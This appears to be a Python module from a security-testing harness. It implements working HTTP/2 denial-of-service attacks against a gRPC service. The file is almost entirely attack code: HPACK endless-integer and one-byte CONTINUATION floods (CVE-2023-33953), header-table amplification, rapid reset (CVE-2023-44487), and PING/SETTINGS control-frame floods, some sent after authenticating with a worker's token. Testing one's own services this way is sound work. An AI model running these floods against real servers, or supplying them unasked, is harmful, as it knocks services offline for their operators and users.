"""HTTP/2 below the calls: header blocks in single bytes (CVE-2023-33953), rapid reset (CVE-2023-44487), floods of control frames."""
import struct
import time

import http2
from attacks.registry import attack
from http2 import Connection, grpc_fields

BYTES_PER_SECOND = 1_400_000
RESETS = 60_000
FLOOD_FRAMES_PER_SECOND = 40_000
FIELD_BYTES = 7000
AGAIN_SECONDS = 0.1  # before a connection that was closed is made anew: handshakes are an attack of their own
HEARTBEAT = "/distro.v1.AggregatorService/Heartbeat"


def authenticated(target, number, token):
    """A connection; with a token, one on which a call with a known credential was answered."""
    connection = Connection(target.grpc, target.ca, target.source(number), 5)
    if token:
        stream = connection.open_stream(grpc_fields(HEARTBEAT, token))
        connection.write(stream, http2.message(b""))
        connection.grpc_status(stream, 5)
    return connection


def pump(target, token, parts, bytes_per_second=BYTES_PER_SECOND):
    """Sends what parts(connection) yields, at a rate; a new connection when one is closed."""
    sent, closed, connections, begin, connection, source = 0, 0, 0, time.monotonic(), None, None
    while target.goes_on():
        try:
            if connection is None:
                connection = authenticated(target, connections, token)
                connections += 1
                source = parts(connection)
            part = next(source)
            connection.send(part)
            sent += len(part)
            connection.read(0)
        except (OSError, StopIteration):
            if connection is not None:
                connection.close()
            connection, closed = None, closed + 1
            time.sleep(AGAIN_SECONDS)
        time.sleep(max(0.0, begin + sent / bytes_per_second - time.monotonic()))
    return {"bytes": sent, "connections": connections, "closed": closed, "bytes_per_second": round(sent / target.seconds)}


def crumbs(connection, beginning, filler):
    """A header block that begins and never ends: one byte in each CONTINUATION frame."""
    stream = connection._next_stream
    yield http2.frame(http2.HEADERS, http2.END_STREAM, stream, beginning)
    while True:
        yield http2.frame(http2.CONTINUATION, 0, stream, filler) * 1000


def endless_integer(connection):
    """The length of a header's value, as an integer that never ends: 0x7f 0x80 0x80 ..."""
    return crumbs(connection, b"\0\x01a\x7f", b"\x80")


def long_fields(connection):
    """Requests with a value of 7000 bytes, within every limit, a byte a frame: who parses a field anew with each byte of it
    does 25 million bytes of work for it."""
    beginning = http2.block(grpc_fields(HEARTBEAT)) + b"\0\x01a" + http2.integer(FIELD_BYTES, 7)
    while True:
        stream, connection._next_stream = connection._next_stream, connection._next_stream + 2
        yield http2.frame(http2.HEADERS, http2.END_STREAM, stream, beginning)
        for _ in range(FIELD_BYTES // 1000):
            yield http2.frame(http2.CONTINUATION, 0, stream, b"a") * 1000
        yield http2.frame(http2.CONTINUATION, http2.END_HEADERS, stream)


def header_blocks(connection):
    """Whole requests whose headers are 4000 references to one entry of the table, over and over, each reset at once."""
    entry = b"\x40\x01a" + http2.integer(3500, 7) + b"b" * 3500
    first = True
    while True:
        block = http2.block(grpc_fields(HEARTBEAT)) + (entry if first else b"") + b"\xbe" * 4000
        stream, connection._next_stream = connection._next_stream, connection._next_stream + 2
        yield (http2.frame(http2.HEADERS, http2.END_HEADERS, stream, block) +
               http2.frame(http2.RST_STREAM, 0, stream, http2.CANCEL))
        first = False


@attack("hpack_integer", "a header's length that never ends, a byte a frame, 1.4 MB/s")
def hpack_integer(target):
    return pump(target, None, endless_integer)


@attack("hpack_crumbs", "headers of 7000 bytes, a byte a frame, 1.4 MB/s")
def hpack_crumbs(target):
    return pump(target, None, long_fields)


@attack("hpack_worker", "`hpack_integer` after a call with a worker's credential", credential="worker", in_all=False)
def hpack_worker(target):
    return pump(target, target.tokens["mallory"], endless_integer)


@attack("hpack_table", "4000 references to one large header in each request, 1.4 MB/s")
def hpack_table(target):
    return pump(target, None, header_blocks)


def resets(connection):
    """Requests that are taken back at once, RESETS of them in all connections."""
    block = http2.block(grpc_fields(HEARTBEAT))
    while True:
        part = b""
        for _ in range(100):
            stream, connection._next_stream = connection._next_stream, connection._next_stream + 2
            part += (http2.frame(http2.HEADERS, http2.END_HEADERS, stream, block) +
                     http2.frame(http2.RST_STREAM, 0, stream, http2.CANCEL))
        yield part


def reset_rate(target):
    return RESETS / target.seconds * 200  # a request and its reset are some 200 bytes


@attack("rapid_reset", f"{RESETS} requests, each taken back at once")
def rapid_reset(target):
    return pump(target, None, resets, reset_rate(target))


@attack("rapid_reset_worker", "`rapid_reset` after a call with a worker's credential", credential="worker", in_all=False)
def rapid_reset_worker(target):
    return pump(target, target.tokens["mallory"], resets, reset_rate(target))


def control_frames(connection):
    number = 0
    while True:
        number += 1
        settings = http2.frame(http2.SETTINGS, 0, 0, struct.pack(">HI", 4, 65535 + number % 2))
        yield (http2.frame(http2.PING, 0, 0, struct.pack(">Q", number)) + settings) * 500


@attack("control_frames", f"{FLOOD_FRAMES_PER_SECOND} PING and SETTINGS frames a second")
def control_flood(target):
    return pump(target, None, control_frames, FLOOD_FRAMES_PER_SECOND * 16)
